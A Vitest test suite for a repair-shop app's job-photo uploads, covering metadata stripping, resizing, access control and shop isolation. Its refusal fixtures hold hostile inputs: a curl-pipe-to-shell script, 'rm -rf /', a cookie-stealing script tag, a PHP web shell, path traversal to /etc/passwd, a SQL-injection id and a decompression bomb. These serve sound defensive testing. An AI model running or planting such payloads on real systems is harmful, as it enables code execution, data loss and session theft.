// Photos on a job: uploads are sniffed, cleaned of metadata, stored in PostgreSQL and served only
// to the job's own shop; refused uploads leave nothing behind.
import { randomUUID } from 'node:crypto';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { AuditEvent, Customer, Job, Photo, Unit } from '../../src/lib/server/db/models';
import * as photos from '../../src/lib/server/photos';
import { Client, signedIn } from '../helpers/client';
import { createShop, type ShopFixture } from '../helpers/fixtures';

let a: ShopFixture;
let b: ShopFixture;
let jobA: string;
let jobB: string;
let ownerA: Client;
let ownerB: Client;

let nextNumber = 7001;
async function createJob(shop: ShopFixture): Promise<string> {
	const customer = await Customer.create({ shopId: shop.id, name: 'Odile Marchetti' });
	const unit = await Unit.create({ shopId: shop.id, customerId: customer.id, kind: 'portable', maker: 'Harrowgate', model: 'HG-5200' });
	const job = await Job.create({
		shopId: shop.id,
		number: nextNumber++,
		unitId: unit.id,
		customerId: customer.id,
		complaint: 'Runs, but no power at the outlets.'
	});
	return job.id;
}

const countFor = (jobId: string) => Photo.count({ where: { jobId } });

/** A noisy picture, so encoders have real work and sizes are realistic. */
async function picture(width: number, height: number, channels: 3 | 4 = 3) {
	const raw = Buffer.alloc(width * height * channels);
	for (let i = 0; i < raw.length; i++) raw[i] = (i * 7919 + (i >> 5) * 104729) & 0xff;
	return sharp(raw, { raw: { width, height, channels } });
}

let jpegWithGps: Buffer;
let largeJpeg: Buffer;
let pngWithAlpha: Buffer;
let webp: Buffer;
let gif: Buffer;
let bomb: Buffer;

function upload(client: Client, jobId: string, bytes: Buffer | Uint8Array, name = 'photo.jpg', type = 'image/jpeg', caption?: string) {
	const form = new FormData();
	form.append('photo', new Blob([new Uint8Array(bytes)], { type }), name);
	if (caption !== undefined) form.append('caption', caption);
	return client.request('POST', `/jobs/${jobId}/photos`, { body: form, headers: { origin: client.base, accept: 'application/json' } });
}

beforeAll(async () => {
	[a, b] = await Promise.all([createShop('Photos A'), createShop('Photos B')]);
	jobA = await createJob(a);
	jobB = await createJob(b);
	[ownerA, ownerB] = await Promise.all([signedIn(a.staff.owner.email, a.staff.owner.password), signedIn(b.staff.owner.email, b.staff.owner.password)]);

	// Orientation 6 means "rotate 90° clockwise to view"; plus camera make and a GPS position.
	jpegWithGps = await (await picture(600, 400))
		.jpeg({ quality: 90 })
		.withMetadata({ orientation: 6 })
		.withExifMerge({
			IFD0: { Make: 'Harrowgate', Model: 'BenchCam 3' },
			IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '1/1 5/1 0/1' }
		})
		.toBuffer();
	largeJpeg = await (await picture(3000, 2000)).jpeg({ quality: 90 }).toBuffer();
	pngWithAlpha = await (await picture(400, 300, 4)).png().toBuffer();
	webp = await (await picture(500, 500)).webp().toBuffer();
	gif = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#3d6b4f' } }).gif().toBuffer();
	// 10,240 × 10,240 = 104.9 megapixels of one grey: a few hundred KB that would decode to 300 MB.
	bomb = await sharp({ create: { width: 10_240, height: 10_240, channels: 3, background: '#808080' } })
		.toColourspace('b-w')
		.png({ compressionLevel: 9 })
		.toBuffer();
});

describe('uploading photos', () => {
	it('the test JPEG really carries a camera make, an orientation and a GPS block', async () => {
		const meta = await sharp(jpegWithGps).metadata();
		expect(meta.orientation).toBe(6);
		expect(meta.exif).toBeDefined();
		// 0x8825 is the EXIF tag pointing at the GPS block (EXIF 2.3 spec, table 4), little-endian here.
		expect(meta.exif!.includes(Buffer.from([0x25, 0x88]))).toBe(true);
		expect(jpegWithGps.includes('Harrowgate')).toBe(true);
	});

	it('accepts a JPEG, turns it upright by EXIF and stores it with no metadata at all', async () => {
		const before = await countFor(jobA);
		const reply = await upload(ownerA, jobA, jpegWithGps, 'IMG_2031.jpg', 'image/jpeg', '  Stator leads, scorched  ');
		expect(reply.status).toBe(201);
		const body = reply.json();
		expect(body).toMatchObject({ caption: 'Stator leads, scorched', width: 400, height: 600, showCustomer: false });
		expect(body.url).toBe(`/jobs/${jobA}/photos/${body.id}`);
		expect(body.thumbUrl).toBe(`/jobs/${jobA}/photos/${body.id}/thumb`);
		expect(await countFor(jobA)).toBe(before + 1);

		const row = (await Photo.findByPk(body.id))!;
		expect(row.shopId).toBe(a.id);
		expect(row.uploadedBy).toBe(a.staff.owner.id);
		expect(row.mime).toBe('image/jpeg');
		expect(row.sizeBytes).toBe(row.data.length);
		const stored = await sharp(row.data).metadata();
		expect(stored.format).toBe('jpeg');
		expect([stored.width, stored.height]).toEqual([400, 600]);
		expect(stored.exif).toBeUndefined();
		expect(stored.xmp).toBeUndefined();
		expect(stored.iptc).toBeUndefined();
		expect(stored.orientation).toBeUndefined();
		expect(row.data.includes('Harrowgate')).toBe(false);
		expect(row.data.includes('BenchCam')).toBe(false);

		const thumb = await sharp(row.thumb).metadata();
		expect(thumb.format).toBe('webp');
		expect(Math.max(thumb.width!, thumb.height!)).toBe(photos.THUMB_LONG_SIDE);
		expect(thumb.height! > thumb.width!).toBe(true);
		expect(thumb.exif).toBeUndefined();
		expect(row.thumb.length).toBeLessThan(row.data.length);

		const event = await AuditEvent.findOne({ where: { shopId: a.id, action: 'photo.added', entityId: body.id } });
		expect(event?.detail).toMatchObject({ jobId: jobA, fileName: 'IMG_2031.jpg' });
	});

	it('shrinks a large photo to 2400 px on the long side', async () => {
		const reply = await upload(ownerA, jobA, largeJpeg, 'wide.jpg');
		expect(reply.status).toBe(201);
		// 3000 × 2000 scaled to fit 2400: 2400 × 1600.
		expect(reply.json()).toMatchObject({ width: 2400, height: 1600 });
		const row = (await Photo.findByPk(reply.json().id))!;
		const stored = await sharp(row.data).metadata();
		expect([stored.width, stored.height]).toEqual([2400, 1600]);
		expect(row.thumb.length).toBeLessThan(row.data.length);
	});

	it('accepts PNG (transparency flattened) and WebP, storing JPEG and a WebP thumbnail', async () => {
		for (const [bytes, name, type, size] of [
			[pngWithAlpha, 'board.png', 'image/png', [400, 300]],
			[webp, 'brushes.webp', 'image/webp', [500, 500]]
		] as const) {
			const before = await countFor(jobA);
			const reply = await upload(ownerA, jobA, bytes, name, type);
			expect(reply.status, name).toBe(201);
			expect([reply.json().width, reply.json().height]).toEqual(size);
			expect(await countFor(jobA)).toBe(before + 1);
			const row = (await Photo.findByPk(reply.json().id))!;
			const stored = await sharp(row.data).metadata();
			expect(stored.format).toBe('jpeg');
			expect(stored.hasAlpha).toBe(false);
			expect((await sharp(row.thumb).metadata()).format).toBe('webp');
		}
	});

	it('judges the bytes, not the declared type: a real PNG named .jpg is accepted as a picture', async () => {
		const reply = await upload(ownerA, jobA, pngWithAlpha, 'named-wrong.jpg', 'image/jpeg');
		expect(reply.status).toBe(201);
	});

	it('a very long, path-like file name is harmless: the photo is stored and the name only shortened into the log', async () => {
		const name = '../../etc/passwd.jpg'.repeat(300);
		const reply = await upload(ownerA, jobA, jpegWithGps, name);
		expect(reply.status).toBe(201);
		const event = await AuditEvent.findOne({ where: { shopId: a.id, action: 'photo.added', entityId: reply.json().id } });
		expect(String(event!.detail.fileName).length).toBe(120);
		expect(reply.json().url).toBe(`/jobs/${jobA}/photos/${reply.json().id}`);
	});
});

describe('refused uploads store nothing', () => {
	const refusals: [string, () => Buffer, string, string, RegExp][] = [
		['zero bytes', () => Buffer.alloc(0), 'empty.jpg', 'image/jpeg', /empty/i],
		[
			'one byte over 15 MB',
			() => Buffer.concat([jpegWithGps, Buffer.alloc(photos.MAX_BYTES + 1 - jpegWithGps.length)]),
			'huge.jpg',
			'image/jpeg',
			/15\.1 MB; a photo can be at most 15 MB/
		],
		['a shell script named photo.jpg', () => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'), 'photo.jpg', 'image/jpeg', /Only JPEG, PNG or WebP/],
		['HTML with a script named photo.jpg', () => Buffer.from('<html><script>alert(document.cookie)</script></html>'), 'photo.jpg', 'image/jpeg', /Only JPEG, PNG or WebP/],
		['a GIF', () => gif, 'photo.jpg', 'image/jpeg', /this file is GIF/],
		['a PDF with a JPEG inside', () => Buffer.concat([Buffer.from('%PDF-1.4\n'), jpegWithGps]), 'photo.jpg', 'image/jpeg', /this file is PDF/],
		['JPEG magic bytes followed by a script', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<?php system($_GET["c"]); ?>'.repeat(20))]), 'photo.jpg', 'image/jpeg', /cannot be read/],
		['a cut-off JPEG', () => jpegWithGps.subarray(0, Math.floor(jpegWithGps.length / 2)), 'half.jpg', 'image/jpeg', /cannot be read/],
		['a decompression bomb (104.9 megapixels)', () => bomb, 'bomb.png', 'image/png', /more than 100 megapixels/],
		[
			'a HEIC photo this build cannot decode',
			() => Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypheic'), Buffer.from([0, 0, 0, 0]), Buffer.from('mif1heic'), Buffer.alloc(200)]),
			'IMG_0001.HEIC',
			'image/heic',
			/Most compatible/
		],
		['a script with a long path-like name', () => Buffer.from('rm -rf /\n'), '../../etc/passwd.jpg'.repeat(300), 'image/jpeg', /Only JPEG, PNG or WebP/]
	];

	for (const [what, bytes, name, type, message] of refusals) {
		it(`refuses ${what} with a clear message`, async () => {
			const before = await countFor(jobA);
			const reply = await upload(ownerA, jobA, bytes(), name, type);
			expect(reply.status).toBe(400);
			expect(reply.json().message).toMatch(message);
			expect(await countFor(jobA)).toBe(before);
		});
	}

	it('refuses a body far over the limit before reading it, with a readable 413', async () => {
		const before = await countFor(jobA);
		const reply = await upload(ownerA, jobA, Buffer.alloc(17 * 1024 * 1024, 0xff), 'giant.jpg');
		expect(reply.status).toBe(413);
		expect(reply.json().message).toMatch(/larger than 15 MB/);
		expect(await countFor(jobA)).toBe(before);
	});

	it('refuses a caption over 200 characters and stores nothing', async () => {
		const before = await countFor(jobA);
		const reply = await upload(ownerA, jobA, jpegWithGps, 'ok.jpg', 'image/jpeg', 'x'.repeat(201));
		expect(reply.status).toBe(400);
		expect(reply.json().message).toMatch(/under 200 characters/);
		expect(await countFor(jobA)).toBe(before);
	});

	it('asks for a file when the photo field is missing or not a file', async () => {
		const form = new FormData();
		form.append('photo', 'just text');
		const reply = await ownerA.request('POST', `/jobs/${jobA}/photos`, { body: form, headers: { origin: ownerA.base } });
		expect(reply.status).toBe(400);
		expect(reply.json().message).toBe('Choose a photo to upload.');
		const json = await ownerA.postJson(`/jobs/${jobA}/photos`, { photo: 'aGVsbG8=' });
		expect(json.status).toBe(400);
		expect(json.json().message).toMatch(/multipart\/form-data/);
	});
});

describe('who may add and see photos', () => {
	it('anonymous callers get 401 and store nothing', async () => {
		const anonymous = new Client();
		const before = await countFor(jobA);
		const reply = await upload(anonymous, jobA, jpegWithGps);
		expect(reply.status).toBe(401);
		expect(await countFor(jobA)).toBe(before);
		const [photo] = await photos.list(a.id, jobA);
		expect((await anonymous.get(`/jobs/${jobA}/photos/${photo.id}`)).status).toBe(401);
		expect((await anonymous.get(`/jobs/${jobA}/photos/${photo.id}/thumb`)).status).toBe(401);
		expect((await anonymous.get(`/jobs/${jobA}/photos`, { accept: 'application/json' })).status).toBe(401);
		expect((await anonymous.postJson(`/jobs/${jobA}/photos/${photo.id}`, { caption: 'anonymous' })).status).toBe(401);
		expect((await anonymous.request('DELETE', `/jobs/${jobA}/photos/${photo.id}`)).status).toBe(401);
		expect((await Photo.findByPk(photo.id))!.caption).not.toBe('anonymous');
	});

	it('a cross-site form post is stopped before it reaches the upload', async () => {
		const before = await countFor(jobA);
		const form = new FormData();
		form.append('photo', new Blob([new Uint8Array(gif)], { type: 'image/jpeg' }), 'x.jpg');
		const reply = await ownerA.request('POST', `/jobs/${jobA}/photos`, { body: form, headers: { origin: 'https://attacker.example' } });
		expect(reply.status).toBe(403);
		expect(await countFor(jobA)).toBe(before);
	});

	it('every staff role can upload, view, edit and delete', async () => {
		for (const role of ['owner', 'manager', 'writer', 'technician'] as const) {
			const client = await signedIn(a.staff[role].email, a.staff[role].password);
			const added = await upload(client, jobA, webp, `${role}.webp`, 'image/webp', `by the ${role}`);
			expect(added.status, role).toBe(201);
			const id = added.json().id;
			expect((await Photo.findByPk(id))!.uploadedBy).toBe(a.staff[role].id);
			expect((await client.get(`/jobs/${jobA}/photos/${id}`)).status, role).toBe(200);
			expect((await client.get(`/jobs/${jobA}/photos/${id}/thumb`)).status, role).toBe(200);
			expect((await client.postJson(`/jobs/${jobA}/photos/${id}`, { caption: `checked by the ${role}` })).status, role).toBe(200);
			expect((await client.request('DELETE', `/jobs/${jobA}/photos/${id}`)).status, role).toBe(204);
			expect(await Photo.findByPk(id)).toBeNull();
		}
	});
});

describe('serving photos', () => {
	let photoId: string;
	beforeAll(async () => {
		const reply = await upload(ownerA, jobA, jpegWithGps, 'served.jpg');
		photoId = reply.json().id;
	});

	it('serves the full picture and the thumbnail with safe headers', async () => {
		const row = (await Photo.findByPk(photoId))!;
		const full = await fetch(`${ownerA.base}/jobs/${jobA}/photos/${photoId}`, { headers: { cookie: ownerA.cookieHeader } });
		expect(full.status).toBe(200);
		expect(full.headers.get('content-type')).toBe('image/jpeg');
		expect(full.headers.get('cache-control')).toMatch(/^private, max-age=\d+$/);
		expect(full.headers.get('x-content-type-options')).toBe('nosniff');
		expect(full.headers.get('content-disposition')).toMatch(/^inline/);
		expect(Buffer.from(await full.arrayBuffer()).equals(row.data)).toBe(true);

		const thumb = await fetch(`${ownerA.base}/jobs/${jobA}/photos/${photoId}/thumb`, { headers: { cookie: ownerA.cookieHeader } });
		expect(thumb.status).toBe(200);
		expect(thumb.headers.get('content-type')).toBe('image/webp');
		expect(thumb.headers.get('cache-control')).toMatch(/^private/);
		expect(thumb.headers.get('x-content-type-options')).toBe('nosniff');
		expect(Buffer.from(await thumb.arrayBuffer()).equals(row.thumb)).toBe(true);
	});

	it('lists the job photos as metadata only', async () => {
		const reply = await ownerA.get(`/jobs/${jobA}/photos`, { accept: 'application/json' });
		expect(reply.status).toBe(200);
		const listed = reply.json().photos as Record<string, unknown>[];
		const mine = listed.find((p) => p.id === photoId)!;
		expect(mine).toMatchObject({ url: `/jobs/${jobA}/photos/${photoId}`, thumbUrl: `/jobs/${jobA}/photos/${photoId}/thumb` });
		expect(Object.keys(mine).sort()).toEqual(['caption', 'height', 'id', 'showCustomer', 'thumbUrl', 'url', 'width']);
		const service = await photos.list(a.id, jobA);
		expect(service.length).toBe(listed.length);
		for (const p of service) expect(p).not.toHaveProperty('data');
		for (const p of service) expect(p).not.toHaveProperty('thumb');
	});
});

describe('shop isolation', () => {
	let photoA: string;
	beforeAll(async () => {
		photoA = (await upload(ownerA, jobA, jpegWithGps, 'a-only.jpg')).json().id;
	});

	it("uploading to another shop's job is 404 and stores nothing", async () => {
		const before = await countFor(jobA);
		const reply = await upload(ownerB, jobA, jpegWithGps);
		expect(reply.status).toBe(404);
		expect(reply.text).not.toContain(a.name);
		expect(await countFor(jobA)).toBe(before);
		expect(await Photo.count({ where: { shopId: b.id } })).toBe(0);
	});

	it("another shop's photo is not found by its job id, by the reader's own job id, or as a thumbnail", async () => {
		expect((await ownerB.get(`/jobs/${jobA}/photos/${photoA}`)).status).toBe(404);
		expect((await ownerB.get(`/jobs/${jobA}/photos/${photoA}/thumb`)).status).toBe(404);
		expect((await ownerB.get(`/jobs/${jobB}/photos/${photoA}`)).status).toBe(404);
		expect((await ownerB.get(`/jobs/${jobA}/photos`, { accept: 'application/json' })).status).toBe(404);
		expect(await photos.read(b.id, jobA, photoA, 'full')).toBeNull();
	});

	it("another shop's photo cannot be edited or deleted", async () => {
		const edit = await ownerB.postJson(`/jobs/${jobA}/photos/${photoA}`, { caption: 'mine now', showCustomer: true });
		expect(edit.status).toBe(404);
		const viaOwnJob = await ownerB.postJson(`/jobs/${jobB}/photos/${photoA}`, { caption: 'mine now' });
		expect(viaOwnJob.status).toBe(404);
		expect((await ownerB.request('DELETE', `/jobs/${jobA}/photos/${photoA}`)).status).toBe(404);
		const row = (await Photo.findByPk(photoA))!;
		expect(row.caption).toBe('');
		expect(row.showCustomer).toBe(false);
	});

	it('a photo is only found under its own job', async () => {
		const otherJobA = await createJob(a);
		expect((await ownerA.get(`/jobs/${otherJobA}/photos/${photoA}`)).status).toBe(404);
	});

	it('unknown and malformed ids are 404, never a server error', async () => {
		const random = randomUUID();
		const paths = [
			`/jobs/${random}/photos/${photoA}`,
			`/jobs/${jobA}/photos/${random}`,
			`/jobs/${jobA}/photos/${random}/thumb`,
			`/jobs/not-a-uuid/photos/${photoA}`,
			`/jobs/${jobA}/photos/not-a-uuid`,
			`/jobs/${jobA}/photos/${encodeURIComponent("1' OR '1'='1")}`,
			`/jobs/${jobA}/photos/${photoA.toUpperCase()}x`
		];
		for (const path of paths) expect((await ownerA.get(path)).status, path).toBe(404);
		expect((await upload(ownerA, random, jpegWithGps)).status).toBe(404);
		expect((await upload(ownerA, 'not-a-uuid', jpegWithGps)).status).toBe(404);
		expect((await ownerA.postJson(`/jobs/${jobA}/photos/not-a-uuid`, { caption: 'x' })).status).toBe(404);
		expect((await ownerA.request('DELETE', `/jobs/${jobA}/photos/${random}`)).status).toBe(404);
	});
});

describe('editing and removing', () => {
	let photoId: string;
	beforeAll(async () => {
		photoId = (await upload(ownerA, jobA, jpegWithGps, 'edit.jpg')).json().id;
	});

	it('saves a caption from JSON and records it', async () => {
		const reply = await ownerA.postJson(`/jobs/${jobA}/photos/${photoId}`, { caption: '  Brushes worn to the stops ' });
		expect(reply.status).toBe(200);
		expect(reply.json()).toMatchObject({ id: photoId, caption: 'Brushes worn to the stops', showCustomer: false });
		expect((await Photo.findByPk(photoId))!.caption).toBe('Brushes worn to the stops');
		const event = await AuditEvent.findOne({ where: { shopId: a.id, action: 'photo.updated', entityId: photoId } });
		expect(event?.detail).toMatchObject({ caption: 'Brushes worn to the stops' });
	});

	it('sets "show the customer" from a form post and clears it again', async () => {
		const on = await ownerA.request('POST', `/jobs/${jobA}/photos/${photoId}`, {
			body: new URLSearchParams({ showCustomer: 'on' }).toString(),
			headers: { 'content-type': 'application/x-www-form-urlencoded', origin: ownerA.base }
		});
		expect(on.status).toBe(200);
		expect((await Photo.findByPk(photoId))!.showCustomer).toBe(true);
		expect((await Photo.findByPk(photoId))!.caption).toBe('Brushes worn to the stops');
		const off = await ownerA.postJson(`/jobs/${jobA}/photos/${photoId}`, { showCustomer: false });
		expect(off.json().showCustomer).toBe(false);
		expect((await Photo.findByPk(photoId))!.showCustomer).toBe(false);
	});

	it('refuses bad changes with field messages and changes nothing', async () => {
		const cases: [unknown, string][] = [
			[{ caption: 'y'.repeat(201) }, 'caption'],
			[{ showCustomer: 'maybe' }, 'showCustomer'],
			[{ caption: 42 }, 'caption'],
			[{}, ''],
			[{ caption: 'ok', shopId: b.id }, '']
		];
		for (const [body, path] of cases) {
			const reply = await ownerA.postJson(`/jobs/${jobA}/photos/${photoId}`, body);
			expect(reply.status, JSON.stringify(body)).toBe(400);
			expect(typeof reply.json().message).toBe('string');
			expect(reply.json().issues[0].path).toBe(path);
		}
		const broken = await ownerA.postJson(`/jobs/${jobA}/photos/${photoId}`, '{"caption":');
		expect(broken.status).toBe(400);
		const row = (await Photo.findByPk(photoId))!;
		expect(row.caption).toBe('Brushes worn to the stops');
		expect(row.shopId).toBe(a.id);
	});

	it('keeps a caption whose JSON spells half a UTF-16 pair, with U+FFFD in its place', async () => {
		// JSON may escape a lone surrogate; PostgreSQL's jsonb (the audit detail) refuses one, so it
		// must never reach the database as such. Found by the fuzz suite as a 500.
		const reply = await ownerA.postJson(`/jobs/${jobA}/photos/${photoId}`, '{"caption":"Rotor \\ud800 lead"}');
		expect(reply.status).toBe(200);
		expect(reply.json().caption).toBe('Rotor \ufffd lead');
		expect((await Photo.findByPk(photoId))!.caption).toBe('Rotor \ufffd lead');
		const events = await AuditEvent.findAll({ where: { shopId: a.id, action: 'photo.updated', entityId: photoId } });
		expect(events.map((e) => (e.detail as { caption?: string }).caption)).toContain('Rotor \ufffd lead');
		await ownerA.postJson(`/jobs/${jobA}/photos/${photoId}`, { caption: 'Brushes worn to the stops' });
	});

	it('deletes a photo, records it, and a second delete is 404', async () => {
		const doomed = (await upload(ownerA, jobA, webp, 'doomed.webp', 'image/webp')).json().id;
		const before = await countFor(jobA);
		expect((await ownerA.request('DELETE', `/jobs/${jobA}/photos/${doomed}`)).status).toBe(204);
		expect(await countFor(jobA)).toBe(before - 1);
		expect(await AuditEvent.count({ where: { shopId: a.id, action: 'photo.removed', entityId: doomed } })).toBe(1);
		expect((await ownerA.request('DELETE', `/jobs/${jobA}/photos/${doomed}`)).status).toBe(404);
		expect((await ownerA.get(`/jobs/${jobA}/photos/${doomed}`)).status).toBe(404);
	});
});

describe('what the customer may see', () => {
	it('reads and lists a photo for the customer only while "show the customer" is on', async () => {
		const job = await createJob(a);
		const shown = (await upload(ownerA, job, jpegWithGps, 'shown.jpg')).json().id;
		const hidden = (await upload(ownerA, job, webp, 'hidden.webp', 'image/webp')).json().id;

		expect(await photos.readForCustomer(a.id, job, shown, 'full')).toBeNull();
		expect(await photos.listForCustomer(a.id, job)).toEqual([]);

		await ownerA.postJson(`/jobs/${job}/photos/${shown}`, { showCustomer: true });
		const full = await photos.readForCustomer(a.id, job, shown, 'full');
		const thumb = await photos.readForCustomer(a.id, job, shown, 'thumb');
		expect(full?.mime).toBe('image/jpeg');
		expect(full?.bytes.equals((await Photo.findByPk(shown))!.data)).toBe(true);
		expect(thumb?.mime).toBe('image/webp');
		expect((await photos.listForCustomer(a.id, job)).map((p) => p.id)).toEqual([shown]);

		expect(await photos.readForCustomer(a.id, job, hidden, 'full')).toBeNull();
		expect(await photos.readForCustomer(b.id, job, shown, 'full')).toBeNull();
		expect(await photos.readForCustomer(a.id, jobA, shown, 'full')).toBeNull();
		expect(await photos.readForCustomer(a.id, job, 'not-a-uuid', 'full')).toBeNull();

		await ownerA.postJson(`/jobs/${job}/photos/${shown}`, { showCustomer: false });
		expect(await photos.readForCustomer(a.id, job, shown, 'full')).toBeNull();
	});
});
